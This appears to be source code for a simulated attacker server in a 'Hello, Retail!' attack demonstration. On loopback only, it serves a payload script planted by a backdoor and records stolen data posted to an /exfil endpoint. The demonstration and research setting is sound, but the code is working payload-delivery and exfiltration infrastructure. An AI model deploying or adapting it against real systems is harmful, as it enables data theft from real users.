// The attacker's server for the Hello, Retail! attack, on loopback only: GET /payload.js serves
// the script that authorize-cc's backdoor plants; POST /exfil receives the stolen table.
//   node examples/hello-retail/attacker/server.mjs [--port N]
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

const here = dirname(fileURLToPath(import.meta.url));

export async function startAttacker({ port = 0, host = '127.0.0.1', log = () => {} } = {}) {
  const stolen = [];
  const fetched = [];
  let url = '';
  const server = createServer((req, res) => {
    const chunks = [];
    req.on('data', (c) => chunks.push(c));
    req.on('end', () => {
      const remote = `${req.socket.remoteAddress}:${req.socket.remotePort}`;
      if (req.method === 'GET' && req.url === '/payload.js') {
        const body = readFileSync(join(here, 'payload.js'), 'utf8').replace('__EXFIL_URL__', `${url}/exfil`);
        fetched.push({ at: Date.now(), remote });
        log(`attacker: served payload.js to ${remote}`);
        res.writeHead(200, { 'content-type': 'application/javascript' }).end(body);
      } else if (req.method === 'POST' && req.url === '/exfil') {
        const body = Buffer.concat(chunks).toString('utf8');
        stolen.push({ at: Date.now(), remote, bytes: Buffer.byteLength(body), body });
        log(`attacker: received ${Buffer.byteLength(body)} bytes of stolen data from ${remote}`);
        res.writeHead(204).end();
      } else {
        res.writeHead(404).end();
      }
    });
  });
  await new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen(port, host, resolve);
  });
  url = `http://${host}:${server.address().port}`;
  return {
    url,
    port: server.address().port,
    payloadUrl: `${url}/payload.js`,
    exfilUrl: `${url}/exfil`,
    stolen,
    fetched,
    close: () => new Promise((resolve) => { server.close(() => resolve()); server.closeAllConnections(); }),
  };
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const i = process.argv.indexOf('--port');
  const a = await startAttacker({ port: i > 0 ? Number(process.argv[i + 1]) : 0, log: (l) => console.log(l) });
  console.log(`attacker listening on ${a.url} (payload ${a.payloadUrl})`);
}
